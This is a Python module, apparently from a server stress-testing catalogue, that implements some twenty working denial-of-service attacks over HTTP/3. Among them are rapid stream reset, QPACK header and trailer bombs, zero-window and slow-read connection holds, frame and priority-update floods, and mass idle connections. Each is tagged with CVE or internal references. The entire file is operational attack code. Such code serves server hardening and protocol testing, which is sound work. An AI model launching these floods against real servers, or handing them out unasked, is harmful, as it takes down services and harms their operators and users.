"""Attacks over HTTP/3."""
import h3
import over_h2
import quic_wire
from catalogue import attack
from quic_wire import stream_frame, varint

CANCELLED = 0x10C


def flood(run, batch, **how):
    """`batch(session, n)`: frames, again and again, on one connection and then on the next."""
    while run.on():
        session = h3.connect(run, **how)
        count = 0
        while session is not None and run.on() and session.send(batch(session, count)):
            session.pump(0.005)  # nothing is resent, so nothing should be lost
            count += 1
        if session is not None:
            session.pump(0.02)
            session.close()
        run.pause(0.02)


def hold(run, sessions):
    while run.on():
        for session in sessions:
            if not session.over:
                session.pump()
        run.pause(0.05)
    for session in sessions:
        session.close()


def streams(session, most=50):
    """Those that may be opened now."""
    opened = []
    while len(opened) < most and (stream := session.open_stream()) is not None:
        opened.append(stream)
    return opened


def each(make, most=50):
    """A batch of `make(stream)`: frames for each stream."""
    def batch(session, _count):
        out = []
        for stream in streams(session, most):
            out += make(session, stream)
        return out or [b"\x01"]
    return batch


@attack("h3-rapid-reset", "h3", "H3-11, CVE-2023-44487", "requests that are reset at once")
def rapid_reset(run):
    ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(b"/big.bin"))

    def make(session, stream):
        cancel = varint(stream) + varint(CANCELLED)
        return [stream_frame(stream, 0, ask) + bytes([quic_wire.STOP_SENDING]) + cancel
                + bytes([quic_wire.RESET_STREAM]) + cancel + varint(len(ask))]
    flood(run, each(make))


@attack("h3-malformed", "h3", "F9, L1", "requests with an upper-case field name")
def malformed(run):
    ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request() + h3.literal(b"Upper", b"case"))
    flood(run, each(lambda session, stream: session.ask(stream, ask)))


def referring(head, count):
    """`head`, and so many references of a byte to the one field in the table."""
    return h3.frame(h3.HEADERS, h3.ONE_INSERTED + head + h3.indexed(0) * count)


ONE_FIELD = h3.CAPACITY_4096 + h3.insert(b"x", b"a" * 3900)


@attack("h3-field-bomb", "h3", "F3, H3-01, CVE-2025-64702",
        "requests with 60,000 one-byte references to a field of 3.9 KB")
def field_bomb(run):
    ask = referring(h3.request(), 60000)
    flood(run, each(lambda session, stream: session.ask(stream, ask), 2), encoder=ONE_FIELD)


@attack("h3-trailer-bomb", "h3", "F3, H3-01, CVE-2026-40898", "the same in the trailers of a request")
def trailer_bomb(run):
    ask = (h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request()) + referring(b"", 60000))
    flood(run, each(lambda session, stream: session.ask(stream, ask), 2), encoder=ONE_FIELD)


@attack("h3-cookie-crumbs", "h3", "H3-01, CVE-2026-47774",
        "requests with 14,000 references to a cookie's crumb")
def cookie_crumbs(run):
    ask = referring(h3.request(), 14000)
    flood(run, each(lambda session, stream: session.ask(stream, ask), 5),
          encoder=h3.CAPACITY_4096 + h3.insert(b"cookie", b"a=b"))


@attack("h3-large-heads", "h3", "H3-01", "requests with 15 KB of new fields")
def large_heads(run):
    ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request() + b"".join(
        h3.literal(b"x-%d" % i, b"a" * 140) for i in range(98)))
    flood(run, each(lambda session, stream: session.ask(stream, ask), 10))


def zero_window(name, source, does, connections, asks, encoder=b""):
    @attack(name, "h3", source, does)
    def run_it(run):
        def connect():
            session = h3.connect(run, windows=0, encoder=encoder)
            if session is not None:
                for stream in streams(session, 100):
                    session.send(session.ask(stream, asks))
                    session.pump()
            return session
        hold(run, run.many(connections, connect))


zero_window("h3-zero-window", "F2, H2-05",
            "100 requests each on 20 connections, with a window of 0", 20,
            h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(b"/big.bin")))
zero_window("h3-zero-window-fields", "F2, H2-05",
            "the same, each with 32 KiB of fields as references", 20,
            referring(h3.request(b"/big.bin"), 7), ONE_FIELD)
zero_window("h3-zero-window-ranges", "F2, H2-05", "the same, each for 16 ranges", 20,
            referring(h3.request(b"/big.bin"), 1),
            h3.CAPACITY_4096 + h3.insert(b"range", over_h2.SIXTEEN_RANGES))


@attack("h3-slow-heads", "h3", "H1-15",
        "100 requests each on 20 connections whose field section never ends")
def slow_heads(run):
    ask = varint(h3.HEADERS) + varint(1000) + h3.NO_REFERENCES + h3.request()

    def connect():
        session = h3.connect(run)
        if session is not None:
            for stream in streams(session, 100):
                session.send(session.ask(stream, ask, fin=False))
        return session
    hold(run, run.many(20, connect))


@attack("h3-blocked", "h3", "H3-02",
        "requests that wait for a field that never comes, 100 each on 20 connections")
def blocked(run):
    ask = h3.frame(h3.HEADERS, h3.ONE_INSERTED + h3.request() + h3.indexed(0))

    def connect():
        session = h3.connect(run, encoder=h3.CAPACITY_4096)
        if session is not None:
            for stream in streams(session, 100):
                session.send(session.ask(stream, ask))
        return session
    hold(run, run.many(20, connect))


def frame_flood(name, source, does, piece):
    """Frames on a request's stream, in order and within its window; then the next request."""
    @attack(name, "h3", source, does)
    def run_it(run):
        head = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(method=b"POST"))
        body = head + piece * (15000 // len(piece))
        flood(run, each(lambda session, stream: session.ask(stream, body, fin=False), 4))


frame_flood("h3-unknown-frames", "H2-07, CVE-2026-95101",
            "frames of a reserved type in a request's body",
            h3.frame(0x21, b""))
frame_flood("h3-empty-data", "H2-07",
            "empty DATA frames of a body that never ends", h3.frame(h3.DATA, b""))


@attack("h3-priority-updates", "h3", "H3-08", "PRIORITY_UPDATE frames on the control stream")
def priority_updates(run):
    piece = h3.frame(0xF0700, varint(0) + b"u=1") * 1000
    flood(run, lambda session, _: session.more(h3.CONTROL, piece[:9000]))


@attack("h3-one-way-streams", "h3", "H3-05", "one-way streams of unknown types")
def one_way_streams(run):
    def batch(session, _count):
        first, session.next_one_way = session.next_one_way, session.one_way
        return [stream_frame(2 + 4 * i, 0, varint(0x21), True)
                for i in range(first, session.one_way)] or [b"\x01"]
    flood(run, batch, alone=True)


@attack("h3-stop-ignored", "h3", "A5", "bodies that go on although the server has said STOP_SENDING")
def stop_ignored(run):
    head = (h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(method=b"POST"))
            + varint(h3.DATA) + varint(1 << 40))

    def connect():
        session = h3.connect(run)
        if session is not None:
            for stream in streams(session, 100):
                session.send([stream_frame(stream, 0, head)])
                session.pump()
        return session

    sessions, offset = run.many(10, connect), len(head)
    while run.on():
        for session in sessions:
            if not session.over:
                session.send([stream_frame(4 * i, offset, b"a") for i in range(100)])
                session.pump()
        offset += 1
        run.pause(0.2)
    hold(run, sessions)


@attack("h3-slow-read", "h3", "H1-17, H2-05",
        "40 connections ask for 16 MiB ten times each and acknowledge nothing")
def slow_read(run):
    ask = h3.frame(h3.HEADERS, h3.NO_REFERENCES + h3.request(b"/big.bin"))

    def connect():
        session = h3.connect(run)
        if session is not None:
            for stream in streams(session, 10):
                session.send(session.ask(stream, ask))
            session.acks = False
        return session
    sessions = run.many(40, connect)
    run.pause(run.left())
    for session in sessions:
        session.close()


@attack("h3-idle", "h3", "H1-18, P-01", "500 connections of one address that ask for nothing")
def idle(run):
    hold(run, run.many(500, lambda: h3.connect(run)))
